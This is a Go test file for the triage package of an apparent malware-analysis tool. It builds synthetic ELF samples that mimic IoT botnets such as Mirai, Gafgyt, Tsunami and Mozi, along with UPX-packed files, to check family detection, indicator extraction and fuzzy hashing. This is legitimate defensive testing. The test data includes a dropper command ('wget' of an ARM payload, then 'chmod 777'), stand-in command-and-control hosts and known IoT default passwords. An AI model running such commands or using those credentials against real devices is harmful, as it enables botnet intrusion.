package triage

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/honeyscope/honeyscope/internal/elfinfo"
	"github.com/honeyscope/honeyscope/internal/elfinfo/elftest"
	"github.com/honeyscope/honeyscope/internal/tlsh"
)

func TestMain(m *testing.M) {
	code := m.Run()
	elftest.Cleanup()
	os.Exit(code)
}

func randBytes(seed uint64, n int) []byte {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.IntN(256))
	}
	return b
}

// codeLike is filler that looks like machine code: not random, not text.
func codeLike(seed uint64, n int) []byte {
	r := rand.New(rand.NewPCG(seed, 7))
	b := make([]byte, n)
	for i := 0; i < n; i += 4 {
		w := uint32(0xe5900000) | uint32(r.IntN(1<<16)) // ldr-like words
		if r.IntN(3) == 0 {
			w = 0xeb000000 | uint32(r.IntN(1<<20)) // bl-like words
		}
		binary.LittleEndian.PutUint32(b[i:min(i+4, n)], w)
	}
	return b
}

func xorString(s string, key byte) []byte {
	b := []byte(s)
	for i := range b {
		b[i] ^= key
	}
	return b
}

// miraiTable is a Mirai-like table: its strings and NULs XORed with key.
func miraiTable(key byte) []byte {
	var b bytes.Buffer
	for _, s := range []string{"/bin/busybox MIRAI", "MIRAI: applet not found", "ncorrect", "/dev/watchdog",
		"TSource Engine Query", "/etc/resolv.conf", "nameserver ", "shell", "enable", "cnc.example.net"} {
		b.Write(xorString(s+"\x00", key))
	}
	for _, s := range []string{"root", "xc3511", "vizxv", "admin", "juantech"} {
		b.Write(xorString(s+"\x00", key))
	}
	return b.Bytes()
}

func miraiSample(key byte, seed uint64) []byte {
	body := append(codeLike(seed, 60000), miraiTable(key)...)
	body = append(body, codeLike(seed+1, 20000)...)
	return elftest.Build(elftest.Spec{Class: 32, Machine: 40, Flags: 0x05000200, NoSects: true, Body: body})
}

func upxSample(seed uint64, magic string) []byte {
	// l_info + p_info, then compressed-looking bytes, then the trailer.
	li := make([]byte, 24)
	copy(li[4:], magic)
	binary.LittleEndian.PutUint16(li[8:], 0x1234)
	li[10], li[11] = 13, 12 // l_version, l_format (linux/elf386-like)
	binary.LittleEndian.PutUint32(li[16:], 148000)
	binary.LittleEndian.PutUint32(li[20:], 148000)
	body := append(li, randBytes(seed, 50000)...)
	body = append(body, []byte("\x00\x00UPX!\x0d\x0c\x00\x00")...)
	body = append(body, make([]byte, 24)...)
	return elftest.Build(elftest.Spec{Class: 32, Machine: 40, Flags: 0x05000000, NoSects: true, Body: body})
}

func TestMiraiTable(t *testing.T) {
	for _, key := range []byte{0x22, 0x37} {
		r := Analyze(miraiSample(key, 1))
		if r.Family != "mirai" || len(r.Families) == 0 {
			t.Fatalf("key %#x: family %q %+v", key, r.Family, r.Families)
		}
		m := r.Families[0]
		if m.XORKey != int(key) {
			t.Errorf("key %#x: found under %#x", key, m.XORKey)
		}
		for _, want := range []string{"/bin/busybox MIRAI", "MIRAI: applet not found", "TSource Engine Query", "xc3511"} {
			if !slices.Contains(m.Markers, want) {
				t.Errorf("key %#x: marker %q missing from %q", key, want, m.Markers)
			}
		}
		// The decoded strings include entries that are no marker.
		for _, want := range []string{"cnc.example.net", "/bin/busybox MIRAI", "shell"} {
			if !slices.Contains(m.Decoded, want) {
				t.Errorf("key %#x: decoded %q missing from %q", key, want, m.Decoded)
			}
		}
		if r.Arch != "arm" || r.ELF == nil || r.ELF.ABI != "eabi5 soft-float" {
			t.Errorf("arch %q elf %+v", r.Arch, r.ELF)
		}
		// The XORed table is no plain string.
		for _, s := range r.Strings {
			if strings.Contains(s, "MIRAI") {
				t.Errorf("plain %q in an obfuscated table", s)
			}
		}
	}
}

func TestPlainFamilies(t *testing.T) {
	cases := []struct {
		family string
		text   []string
	}{
		{"gafgyt", []string{"KILLATTK", "GETLOCALIP", "SCANNER ON", "HOLD Flooding %s", "PONG!"}},
		{"tsunami", []string{"NOTICE %s :TSUNAMI <target> <secs>", "PRIVMSG %s :", "GETSPOOFS", "KILLALL"}},
		{"mozi", []string{"[ss]bot[/ss][hp]88888888[/hp][count]", "dht.transmissionbt.com", "router.bittorrent.com"}},
	}
	for _, c := range cases {
		body := codeLike(3, 30000)
		for _, s := range c.text {
			body = append(body, s...)
			body = append(body, 0)
		}
		r := Analyze(elftest.Build(elftest.Spec{Class: 32, BE: true, Machine: 8, Body: body}))
		if r.Family != c.family {
			t.Errorf("%s: family %q %+v", c.family, r.Family, r.Families)
			continue
		}
		if r.Families[0].XORKey != 0 || r.Families[0].Decoded != nil {
			t.Errorf("%s: %+v", c.family, r.Families[0])
		}
	}
	// Mirai's entries in plain text are ordinary libc and shell strings:
	// three are no family, six (an unobfuscated build) are.
	libc := append(codeLike(5, 30000), "/etc/resolv.conf\x00nameserver \x00admin\x00"...)
	if r := Analyze(libc); len(r.Families) != 0 {
		t.Errorf("libc strings: %+v", r.Families)
	}
	plain := append(codeLike(5, 30000), miraiTable(0)...)
	if r := Analyze(plain); r.Family != "mirai" || r.Families[0].XORKey != 0 {
		t.Errorf("plain mirai: %+v", r.Families)
	}
	// Nothing in unrelated content.
	for seed := range uint64(20) {
		r := Analyze(randBytes(seed, 200000))
		if len(r.Families) != 0 {
			t.Errorf("random content: %+v", r.Families)
		}
	}
}

func TestUPX(t *testing.T) {
	r := Analyze(upxSample(5, "UPX!"))
	if len(r.Packers) != 1 || r.Packers[0].Name != "upx" {
		t.Fatalf("%+v", r.Packers)
	}
	p := r.Packers[0]
	if !slices.Contains(p.Evidence, "l_info") || !slices.Contains(p.Evidence, "p_info") || !slices.Contains(p.Evidence, "trailer") ||
		p.UnpackedSize != 148000 || p.Format != 12 {
		t.Errorf("%+v", p)
	}
	// The magic overwritten, as IoT malware does to stop "upx -d".
	r = Analyze(upxSample(5, "\x00\x11\x22\x33"))
	if len(r.Packers) != 1 || !slices.Contains(r.Packers[0].Evidence, "modified l_info magic") {
		t.Errorf("modified: %+v", r.Packers)
	}
	// No signature at all: the entropy heuristic.
	r = Analyze(elftest.Build(elftest.Spec{Class: 32, Machine: 40, NoSects: true, Body: randBytes(9, 60000)}))
	if len(r.Packers) != 1 || r.Packers[0].Name != "unknown" {
		t.Errorf("heuristic: %+v", r.Packers)
	}
	// An ordinary binary is not packed.
	r = Analyze(elftest.Build(elftest.Spec{Class: 32, Machine: 40, Symbols: []string{"connect"}, Body: codeLike(2, 40000)}))
	if r.Packed() {
		t.Errorf("plain: %+v", r.Packers)
	}
}

func TestIndicators(t *testing.T) {
	text := []string{
		"wget http://198.51.100.7/bins/x.arm7; chmod 777 x.arm7",
		"tftp://203.0.113.9/t.sh",
		"connect to 192.0.2.44:23 now",
		"cnc.badexample.com", "update.example.co.uk", "libc.so.6", "runtime.gopark", "version 1.2.3",
		"Content-Type: text/html", "NotA.Domain.COM", "x.unknowntld",
	}
	body := codeLike(4, 2000)
	for _, s := range text {
		body = append(body, s...)
		body = append(body, 0, 1, 2)
	}
	r := Analyze(body)
	wantIPs := []string{"192.0.2.44", "198.51.100.7", "203.0.113.9"}
	if !slices.Equal(r.IPs, wantIPs) {
		t.Errorf("ips %q, want %q", r.IPs, wantIPs)
	}
	wantURLs := []string{"http://198.51.100.7/bins/x.arm7", "tftp://203.0.113.9/t.sh"}
	if !slices.Equal(r.URLs, wantURLs) {
		t.Errorf("urls %q, want %q", r.URLs, wantURLs)
	}
	wantDomains := []string{"cnc.badexample.com", "update.example.co.uk"}
	if !slices.Equal(r.Domains, wantDomains) {
		t.Errorf("domains %q, want %q", r.Domains, wantDomains)
	}
	if r.StringCount < len(text) || !slices.Contains(r.Strings, "cnc.badexample.com") {
		t.Errorf("%d strings %q", r.StringCount, r.Strings)
	}
}

func TestHashes(t *testing.T) {
	b := miraiSample(0x22, 7)
	r := Analyze(b)
	sum := sha256.Sum256(b)
	if r.SHA256 != hex.EncodeToString(sum[:]) || len(r.MD5) != 32 || len(r.SHA1) != 40 || r.Size != len(b) {
		t.Errorf("%+v", r)
	}
	d, err := tlsh.Hash(b)
	if err != nil || r.TLSH != d.String() {
		t.Errorf("tlsh %q: %v", r.TLSH, err)
	}
	// A variant (another filler seed) stays near; other content is far.
	v := Analyze(miraiSample(0x22, 8))
	o := Analyze(upxSample(1, "UPX!"))
	dv, _ := tlsh.Parse(v.TLSH)
	do, _ := tlsh.Parse(o.TLSH)
	if near, far := tlsh.Distance(d, dv), tlsh.Distance(d, do); near >= far {
		t.Errorf("variant %d, other %d", near, far)
	}
}

func TestTelfhash(t *testing.T) {
	syms := []string{"connect", "socket", "Sendto", "recvfrom", "inet_addr", "htons", "fork", "setsid",
		"_init", ".hidden", "strcpy", "memset", "lseek64", "main", "__libc_start_main", "kill", "getpid", "attack_udp_generic",
		"attack_tcp_syn", "scanner_init", "killer_init", "table_unlock_val", "resolv_lookup"}
	b := elftest.Build(elftest.Spec{Class: 32, Machine: 40, Symbols: syms, Body: codeLike(1, 4000)})
	in, err := elfinfo.Parse(b)
	if err != nil {
		t.Fatal(err)
	}
	h, n := telfhash(b, &in)
	// What is hashed: the kept names, lower-cased and sorted.
	kept := []string{"attack_tcp_syn", "attack_udp_generic", "connect", "fork", "getpid", "htons", "inet_addr", "kill",
		"killer_init", "recvfrom", "resolv_lookup", "scanner_init", "sendto", "setsid", "socket", "table_unlock_val"}
	d, err := tlsh.Hash([]byte(strings.Join(kept, ",")))
	if err != nil {
		t.Fatal(err)
	}
	if n != len(kept) || h != strings.ToLower(d.String()) {
		t.Errorf("telfhash %q over %d names, want %s over %d", h, n, strings.ToLower(d.String()), len(kept))
	}
	// The same symbols in a different binary: the same telfhash.
	b2 := elftest.Build(elftest.Spec{Class: 32, Machine: 40, Symbols: reversed(syms), Body: codeLike(99, 9000)})
	in2, _ := elfinfo.Parse(b2)
	if h2, _ := telfhash(b2, &in2); h2 != h {
		t.Errorf("reordered symbols: %q vs %q", h2, h)
	}
	// No section table: no telfhash.
	r := Analyze(miraiSample(0x22, 1))
	if r.Telfhash != "" {
		t.Errorf("stripped: %q", r.Telfhash)
	}
}

func TestGoPrograms(t *testing.T) {
	bins := elftest.GoPrograms(t)
	for _, tg := range elftest.GoTargets {
		r := Analyze(bins[tg.GOARCH])
		if r.Arch != tg.Arch || r.TLSH == "" || r.Telfhash == "" || r.TelfhashSymbols < 100 || r.Packed() || len(r.Families) != 0 {
			t.Errorf("%s: arch %q tlsh %q telfhash %q (%d) packers %+v families %+v", tg.GOARCH, r.Arch, r.TLSH, r.Telfhash,
				r.TelfhashSymbols, r.Packers, r.Families)
		}
		if !slices.Contains(r.Strings, "hello from a test program") && r.StringCount == 0 {
			t.Errorf("%s: no strings", tg.GOARCH)
		}
	}
}

// TestJSONNames pins the field names other tools read.
func TestJSONNames(t *testing.T) {
	r := Analyze(upxSample(1, "UPX!"))
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	json.Unmarshal(b, &m)
	for _, k := range []string{"version", "sha256", "md5", "sha1", "size", "type", "arch", "elf", "entropy", "packers", "tlsh", "string_count"} {
		if _, ok := m[k]; !ok {
			t.Errorf("no %q in %s", k, b)
		}
	}
	e := m["elf"].(map[string]any)
	for _, k := range []string{"class", "endian", "machine", "arch", "abi", "entry", "static", "interp", "stripped"} {
		if _, ok := e[k]; !ok {
			t.Errorf("no elf.%q", k)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add(miraiSample(0x22, 1)[:3000])
	f.Add(upxSample(1, "UPX!")[:500])
	f.Add([]byte("http://a.example.com/x 1.2.3.4"))
	f.Fuzz(func(t *testing.T, b []byte) {
		r := Analyze(b)
		if len(r.Strings) > maxStrings || len(r.IPs) > maxIndicators || len(r.Domains) > maxIndicators {
			t.Fatal("bounds")
		}
	})
}

// benchMix is the benchmark's samples: Mirai-like tables under two keys,
// UPX-like blobs, plain-text families, hand-built headers with symbols,
// at sizes typical of IoT malware (tens of KiB to about 100 KiB).
func benchMix() [][]byte {
	var out [][]byte
	for i := range uint64(4) {
		out = append(out, miraiSample(0x22, i), miraiSample(0x5a, i+10), upxSample(i, "UPX!"), upxSample(i, "\x01\x02\x03\x04"))
		out = append(out, elftest.Build(elftest.Spec{Class: 32, BE: true, Machine: 8, Symbols: []string{"connect", "socket", "attack_init", "scanner_init", "table_init"},
			Body: append(codeLike(i, 90000), "KILLATTK\x00GETLOCALIP\x00SCANNER ON\x00http://198.51.100.7/x\x00"...)}))
	}
	return out
}

func BenchmarkAnalyze(b *testing.B) {
	mix := benchMix()
	total := 0
	for _, s := range mix {
		total += len(s)
	}
	b.SetBytes(int64(total / len(mix)))
	b.ResetTimer()
	c0 := cpuTime()
	i := 0
	for b.Loop() {
		Analyze(mix[i%len(mix)])
		i++
	}
	b.ReportMetric(float64(i)/b.Elapsed().Seconds(), "samples/s")
	b.ReportMetric(float64(i)/(cpuTime()-c0).Seconds(), "cpu-samples/s")
}

func BenchmarkAnalyzeGo(b *testing.B) {
	bins := elftest.GoPrograms(b)
	var mix [][]byte
	total := 0
	for _, tg := range elftest.GoTargets {
		mix = append(mix, bins[tg.GOARCH])
		total += len(bins[tg.GOARCH])
	}
	b.SetBytes(int64(total / len(mix)))
	b.ResetTimer()
	c0 := cpuTime()
	i := 0
	for b.Loop() {
		Analyze(mix[i%len(mix)])
		i++
	}
	b.ReportMetric(float64(i)/b.Elapsed().Seconds(), "samples/s")
	b.ReportMetric(float64(i)/(cpuTime()-c0).Seconds(), "cpu-samples/s")
}

func reversed(s []string) []string {
	r := slices.Clone(s)
	slices.Reverse(r)
	return r
}

// cpuTime is the process's CPU time: on a shared machine it measures the
// work, where wall time measures the neighbours too.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}
